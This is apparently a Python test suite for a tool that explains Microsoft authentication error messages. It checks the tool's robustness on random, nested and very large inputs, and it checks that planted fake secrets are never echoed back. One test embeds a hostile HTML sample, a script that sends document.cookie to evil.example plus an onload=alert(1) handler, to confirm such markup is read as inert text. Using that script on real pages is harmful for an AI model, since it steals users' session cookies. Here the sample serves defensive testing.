"""Texts match_rules to harm, and texts too large: always an answer, in work that grows with the text, and no secret in it."""

import base64
import json
import random
import tracemalloc
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from msoauth.explaining import explain, phrases
from msoauth.explaining.load import causes, signatures
from msoauth.explaining.normalize import LIMIT, lowercase, normalize
from tests.explaining.test_texts import TEXTS

EXPIRED = "AADSTS7000222: The provided client secret keys for app 'a' are expired."
TINY = [
    "AADSTS",
    "50126",
    " ",
    "\n",
    "{",
    "\\u00",
    "%25",
    "&amp;",
    "<b>",
    "=?utf-8?q?",
    "eyJ",
    "…",
    "535 5.7.139 ",
]
PIECES = st.sampled_from(
    [*TINY, "İ", "ß", "\x00", "\ud800", '"', "\\", "error", "=\n", "[", "https://"]
)


@given(st.one_of(st.text(max_size=400), st.lists(PIECES, max_size=60).map("".join)))
@settings(max_examples=150)
def test_any_text_has_an_answer_that_can_be_written_down(text: str) -> None:
    known = explain(text)
    assert known.cause in causes()
    assert known.evidence.isprintable()
    json.dumps(known.as_json())


@given(st.binary(max_size=600))
@settings(max_examples=100)
def test_any_bytes_have_an_answer(raw: bytes) -> None:
    assert explain(raw.decode("latin-1")).cause in causes()


@pytest.mark.parametrize("depth", [10, 1_000, 100_000])
def test_json_however_deep_is_read_as_far_as_it_goes(depth: int) -> None:
    deep = '{"error":' * depth + json.dumps(EXPIRED) + "}" * depth
    assert explain(deep).cause == "secret-expired"


def test_an_error_in_many_shells_is_found() -> None:
    shell = EXPIRED
    for _shell in range(4):
        shell = json.dumps({"message": shell})
    assert explain(shell).cause == "secret-expired"


def test_scripts_and_forms_of_a_page_are_words_and_nothing_else() -> None:
    page = (
        "<html><script>fetch('https://evil.example/'+document.cookie)</script>"
        f"<body onload=alert(1)><div style='x'>{EXPIRED}</div></body></html>"
    )
    known = explain(page)
    assert known.cause == "secret-expired"
    assert "<script" not in json.dumps(known.as_json())


@pytest.mark.parametrize("share", [0.0, 0.3, 0.5, 0.9, 1.0])
def test_the_failure_is_found_wherever_it_stands_in_a_large_log(share: float) -> None:
    """Four megabytes, every line of them another: more than is read closely."""
    lines = [
        f"2026-02-03 INFO job {n} of {chr(97 + n % 26) * 7} done, {n * 7919} bytes"
        for n in range(60_000)
    ]
    lines.insert(int(share * len(lines)), f"2026-02-03 ERROR {EXPIRED}")
    assert explain("\n".join(lines)).cause == "secret-expired"


def test_what_is_read_closely_is_bounded_whatever_the_length() -> None:
    sizes = []
    for copies in (1, 10, 100):
        source = random.Random(copies)
        lines = [
            f"{source.random()} {source.choice(TINY)} error {n}" for n in range(3_000 * copies)
        ]
        sizes.append(len(normalize("\n".join(lines))))
    assert max(sizes) < 500_000
    assert len(normalize("x y " * LIMIT)) < 500_000


@pytest.mark.parametrize(
    "piece",
    [
        "\ufffd\x00\x01PK\x03\x04",
        '{"error": [',
        "%2525",
        "authentication failed error ",
        "\n",
        "QUJDREVG" * 8 + "\n",
    ],
    ids=["binary", "nested JSON", "percent signs", "failures", "empty lines", "base64"],
)
def test_a_hundred_megabytes_take_no_memory_beside_themselves(piece: str) -> None:
    """What is looked at closely is bounded; so is the time, for which the others of this file stand."""
    text = piece * (100_000_000 // len(piece))
    tracemalloc.start()
    try:
        known = explain(text)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert known.cause in causes()
    assert peak < 40_000_000


def test_lines_that_differ_in_their_figures_only_are_read_a_few_times() -> None:
    read = normalize("\n".join(f"12:00:{n % 60:02} request {n:x} failed" for n in range(20_000)))
    assert read.count("request") <= 20


class _Counted(str):
    """A text that counts how often it is searched."""

    searches = 0

    def find(self, *arguments: Any) -> int:
        type(self).searches += 1
        return super().find(*arguments)


def _searches(text: str) -> int:
    _Counted.searches = 0
    phrases.find_phrases(text, _Counted(lowercase(text)), lambda offset: None)
    return _Counted.searches


@pytest.mark.parametrize(
    "piece",
    [
        "authentication failed ",
        "error validating credentials ",
        "user account ",
        "535 5.7.139 ",
        "the access token ",
    ],
)
def test_the_work_of_one_text_does_not_grow_beyond_a_bound(piece: str) -> None:
    """However often a phrase's beginning stands there, it is tried a fixed number of times."""
    few, many = _searches(piece * 200), _searches(piece * 5_000)
    assert few > 0
    assert many <= few * 2


def test_the_catalogue_has_no_regular_expressions() -> None:
    for one in signatures():
        for pattern in (*one.says, *one.literal):
            assert ".*" not in pattern
            assert len(list(phrases.wordings(pattern))) <= 4_000  # each is a phrase to look for


@pytest.mark.parametrize(
    "text",
    [
        "client_secret=planted-marker-secret AADSTS7000222: expired",
        '{"refresh_token": "planted-marker-refresh", "error_description": "AADSTS700082: expired"}',
        "Authorization: Bearer planted.marker.token\nAADSTS50126",
        "AADSTS54005 https://localhost/?code=0.planted-marker-of-an-authorization-code",
        "the page said: password=planted-marker-word and nothing else",
        "AUTH XOAUTH2 "
        + base64.b64encode(b"user=a@b.example\x01auth=Bearer planted-marker\x01\x01").decode()
        + "\n535 5.7.3 Authentication unsuccessful",
    ],
)
def test_no_secret_of_the_text_comes_out_again(text: str) -> None:
    said = json.dumps(explain(text).as_json())
    assert "planted" not in said
    assert base64.b64encode(b"planted-marker")[:-3].decode() not in said


def test_a_text_of_everyday_length_costs_few_searches() -> None:
    """About a microsecond each: the two milliseconds that a text may take, without a clock."""
    assert max(_searches(one["text"]) for one in TEXTS) < 1_000
